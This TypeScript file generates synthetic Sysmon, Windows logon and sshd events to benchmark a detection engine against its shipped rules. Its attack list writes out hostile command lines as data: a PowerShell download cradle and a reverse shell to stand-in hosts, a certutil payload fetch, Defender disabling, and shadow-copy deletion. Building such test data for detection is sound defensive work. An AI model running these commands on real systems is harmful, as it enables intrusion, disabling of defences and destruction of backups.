/**
 * Deterministic mixed batches for the CPU benchmark: a benign fleet (Sysmon from sysmon-events.ts,
 * Windows Security logons, sshd lines) and an attack-heavy mix whose records hit the shipped rules
 * (rules/): attacker command lines on many hosts, Defender tampering, script downloads, reverse
 * shells, logon-failure and SSH brute-force bursts that feed the correlation rules.
 */
import { createSysmonGenerator } from "./sysmon-events.ts";

export type EventMix = "benign" | "attack";

const START_MS = Date.UTC(2026, 10, 23, 8, 0, 0);
const WORKSTATIONS = 36;
const SERVERS = ["web1", "web2", "db1", "bastion"];
const USERS = ["alice", "bob", "carol", "dave", "erin", "frank"];
const MONTHS = ["Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"];

/** Attacker command lines, each matching at least one shipped Sigma or simple rule. */
const ATTACK_COMMANDS: { image: string; commandLine: string; parent: string; parentCommandLine: string }[] = [
  {
    image: "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
    commandLine:
      "powershell -nop -c \"IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.23:8081/stage2.ps1')\"",
    parent: "C:\\Windows\\System32\\cmd.exe",
    parentCommandLine: "cmd.exe /c C:\\Users\\Public\\update.bat",
  },
  {
    image: "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
    commandLine: "powershell Set-MpPreference -DisableRealtimeMonitoring $true",
    parent: "C:\\Windows\\System32\\cmd.exe",
    parentCommandLine: "cmd.exe /c C:\\Users\\Public\\run.cmd",
  },
  {
    image: "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
    commandLine:
      "powershell -c \"$c=New-Object Net.Sockets.TCPClient('203.0.113.9',443);$s=$c.GetStream();iex ([Text.Encoding]::ASCII.GetString($b))\"",
    parent: "C:\\Windows\\explorer.exe",
    parentCommandLine: "C:\\Windows\\explorer.exe",
  },
  {
    image: "C:\\Windows\\System32\\whoami.exe",
    commandLine: "whoami /priv",
    parent: "C:\\Windows\\System32\\cmd.exe",
    parentCommandLine: "cmd.exe",
  },
  {
    image: "C:\\Windows\\System32\\certutil.exe",
    commandLine: "certutil -urlcache -split -f http://198.51.100.23/p.exe C:\\Users\\Public\\p.exe",
    parent: "C:\\Windows\\System32\\cmd.exe",
    parentCommandLine: "cmd.exe",
  },
  {
    image: "C:\\Windows\\System32\\vssadmin.exe",
    commandLine: "vssadmin delete shadows /all /quiet",
    parent: "C:\\Windows\\System32\\cmd.exe",
    parentCommandLine: "cmd.exe",
  },
  {
    image: "C:\\Users\\Public\\svchost.exe",
    commandLine: 'C:\\Users\\Public\\svchost.exe "C:\\Users\\Public\\payload.dll",DllRegisterServer',
    parent: "C:\\Windows\\System32\\cmd.exe",
    parentCommandLine: "cmd.exe",
  },
  {
    image: "C:\\Windows\\System32\\sc.exe",
    commandLine: "sc stop WinDefend",
    parent: "C:\\Windows\\System32\\cmd.exe",
    parentCommandLine: "cmd.exe",
  },
];

function pad(value: number, width = 2): string {
  return String(value).padStart(width, "0");
}

function syslogTime(ms: number): string {
  const d = new Date(ms);
  return `${MONTHS[d.getUTCMonth()]} ${String(d.getUTCDate()).padStart(2, " ")} ${pad(d.getUTCHours())}:${pad(d.getUTCMinutes())}:${pad(d.getUTCSeconds())}`;
}

function workstation(i: number): string {
  return `WS${pad(i % WORKSTATIONS)}.corp.example`;
}

/** A generator of one mix: the same mix and seed always give the same records. */
export function createMixGenerator(mix: EventMix): { take(count: number): unknown[] } {
  const sysmon = createSysmonGenerator({ startMs: START_MS });
  let n = 0;
  let clock = START_MS;

  const security = (eventId: number): Record<string, unknown> => ({
    Channel: "Security",
    EventID: eventId,
    Computer: n % 5 === 0 ? "DC01.corp.example" : workstation(n),
    TimeCreated: new Date(clock).toISOString(),
    TargetUserName: USERS[n % USERS.length],
    TargetDomainName: "CORP",
    LogonType: eventId === 4625 ? "3" : String(2 + (n % 9)),
    IpAddress: eventId === 4625 ? `203.0.113.${n % 250}` : `10.0.${n % 4}.${n % 250}`,
    IpPort: String(49152 + (n % 16000)),
    ...(eventId === 4625
      ? { Status: "0xc000006d", SubStatus: "0xc000006a" }
      : { LogonId: `0x${(n * 7919).toString(16)}` }),
  });

  const ssh = (failed: boolean): Record<string, unknown> => {
    const host = SERVERS[n % SERVERS.length] as string;
    const user = failed ? ["root", "admin", "oracle", "test"][n % 4] : "deploy";
    const from = failed ? `198.51.100.${n % 200}` : `10.0.9.${n % 50}`;
    const verb = failed ? "Failed password" : "Accepted publickey";
    return {
      message: `${syslogTime(clock)} ${host} sshd[${1000 + (n % 30000)}]: ${verb} for ${user} from ${from} port ${40000 + (n % 20000)} ssh2`,
      host,
    };
  };

  const attackProcess = (): Record<string, unknown> => {
    const attack = ATTACK_COMMANDS[n % ATTACK_COMMANDS.length] as (typeof ATTACK_COMMANDS)[number];
    return {
      Channel: "Microsoft-Windows-Sysmon/Operational",
      EventID: 1,
      Computer: workstation(Math.floor(n / ATTACK_COMMANDS.length)),
      UtcTime: new Date(clock).toISOString().replace("T", " ").replace("Z", ""),
      ProcessGuid: `{3f1b6f4a-0000-6560-0b00-${n.toString(16).padStart(12, "0")}}`,
      ProcessId: 4000 + (n % 60000),
      Image: attack.image,
      CommandLine: attack.commandLine,
      ParentImage: attack.parent,
      ParentCommandLine: attack.parentCommandLine,
      User: `CORP\\${USERS[n % USERS.length]}`,
      IntegrityLevel: "High",
      ...(attack.image.endsWith("svchost.exe") ? { OriginalFileName: "RUNDLL32.EXE" } : {}),
    };
  };

  /** Benign: 60% Sysmon, 25% Security logons, 15% sshd; attack: half of it attacker activity. */
  const next = (): unknown => {
    n++;
    clock += 37;
    const slot = n % 20;
    if (mix === "attack" && slot % 2 === 0) {
      if (slot < 10) return attackProcess();
      if (slot < 16) return security(4625);
      return ssh(true);
    }
    if (slot < 12) return sysmon.next();
    if (slot < 17) return security(slot === 16 ? 4672 : 4624);
    return ssh(false);
  };

  return { take: (count) => Array.from({ length: count }, next) };
}
